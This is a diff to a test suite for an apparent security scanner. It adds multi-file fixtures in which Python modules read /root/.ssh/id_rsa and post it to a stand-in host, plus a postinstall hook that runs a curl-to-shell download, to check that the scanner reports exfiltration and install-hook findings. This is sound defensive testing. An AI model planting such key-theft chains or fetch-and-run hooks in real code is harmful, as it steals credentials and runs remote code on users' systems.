@@ -15,6 +15,9 @@ function across(findings: readonly Finding[]): readonly string[] {
     .map(({ ruleId, location }) => `${ruleId} ${location.path}:${location.startLine}`);
 }
 
+/** So much that two files with it are looked at apart. */
+const FILLER = 'total = total + 1\n'.repeat(7_000);
+
 describe('a flow through several files', () => {
   it.each<[string, Record<string, string>, string]>([
     [
@@ -67,6 +70,46 @@ describe('a flow through several files', () => {
           'import { readFileSync } from "node:fs";\nimport { send } from "./send.js";\nsend(readFileSync("/root/.ssh/id_rsa", "utf8"));\n',
       },
       'secret-file-to-network send.ts:1',
+    ],
+    [
+      'through a module that only hands it on',
+      {
+        'keys.py': 'def load():\n    return open("/root/.ssh/id_rsa").read()\n',
+        'middle.py': 'from keys import load\n\ndef fetch():\n    return load()\n',
+        'send.py': 'import requests\n\ndef push(x):\n    requests.post("https://stats.example", data=x)\n',
+        'outer.py': 'from send import push as deliver\n\ndef forward(x):\n    deliver(x)\n',
+        'main.py': 'import middle\nfrom outer import forward\n\nforward(middle.fetch())\n',
+      },
+      'secret-file-to-network send.py:4',
+    ],
+    [
+      'through packages named in full',
+      {
+        'tools/io/keys.py': 'def load():\n    return open("/root/.ssh/id_rsa").read()\n',
+        'tools/net.py':
+          'import requests\n\ndef push(x):\n    requests.post("https://stats.example", data=x)\n',
+        'main.py': 'import tools.io.keys\nimport tools.net\n\ntools.net.push(tools.io.keys.load())\n',
+      },
+      'secret-file-to-network tools/net.py:4',
+    ],
+    [
+      'in modules that import each other',
+      {
+        'a.py':
+          'import b\n\ndef load():\n    return open("/root/.ssh/id_rsa").read()\n\ndef run():\n    b.push(load())\n',
+        'b.py':
+          'import a\nimport requests\n\ndef push(x):\n    requests.post("https://stats.example", data=x)\n',
+      },
+      'secret-file-to-network b.py:5',
+    ],
+    [
+      'in folders of a target too large to be looked at as a whole',
+      {
+        'one/keys.py': `def load():\n    return open("/root/.ssh/id_rsa").read()\n${FILLER}`,
+        'two/send.py': `import requests\n\ndef push(x):\n    requests.post("https://stats.example", data=x)\n${FILLER}`,
+        'main.py': 'from one.keys import load\nfrom two import send\n\nsend.push(load())\n',
+      },
+      'secret-file-to-network two/send.py:4',
     ],
   ])('is one chain: %s', async (_what, files, expected) => {
     const findings = await findingsIn(files);
@@ -131,6 +174,21 @@ describe('a file that a hook starts', () => {
   ])('runs on install: %s', async (_what, files, path) => {
     const findings = await findingsIn(files);
     const inside = findings.filter(({ location }) => location.path === path);
+    expect(inside.map(({ message }) => message).join(' ')).toContain('install-hook');
+  });
+
+  it('runs on install also when it is started by what the hook starts, or lies in another folder of a large target', async () => {
+    const started = (files: Record<string, string>) =>
+      findingsIn({ 'package.json': '{"scripts": {"postinstall": "node a/setup.js"}}', ...files });
+    for (const filler of ['', `\n${FILLER}`]) {
+      const findings = await started({ 'a/setup.js': PAYLOAD + filler, 'b/other.js': `1;${filler}` });
+      expect(findings.map(({ message }) => message).join(' ')).toContain('install-hook');
+    }
+    const twice = await started({
+      'a/setup.js': 'const { execSync } = require("child_process");\nexecSync("bash b/get.sh");\n',
+      'b/get.sh': 'curl -s https://get.example/i.sh | sh\n',
+    });
+    const inside = twice.filter(({ location }) => location.path === 'b/get.sh');
     expect(inside.map(({ message }) => message).join(' ')).toContain('install-hook');
   });
 
